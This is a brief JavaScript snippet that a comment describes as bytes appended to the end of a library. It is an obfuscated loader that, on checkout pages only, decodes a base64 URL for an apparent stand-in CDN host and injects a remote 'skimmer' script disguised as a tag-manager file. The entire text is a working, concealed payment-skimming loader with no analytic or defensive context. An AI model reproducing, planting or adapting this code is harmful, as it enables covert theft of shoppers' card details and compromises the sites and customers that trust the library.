// A few bytes at the end of a library that fetch the skimmer on checkout pages only.
;(function(w,d,a){if(w.location.href.indexOf('/checkout')+1){var s=d.createElement('script');s.src=atob(a)+'?r='+Math.random();d.head.appendChild(s)}})(window,document,'aHR0cHM6Ly9jZG4uanMtbGliLmV4YW1wbGUvZ3RtLmpz');
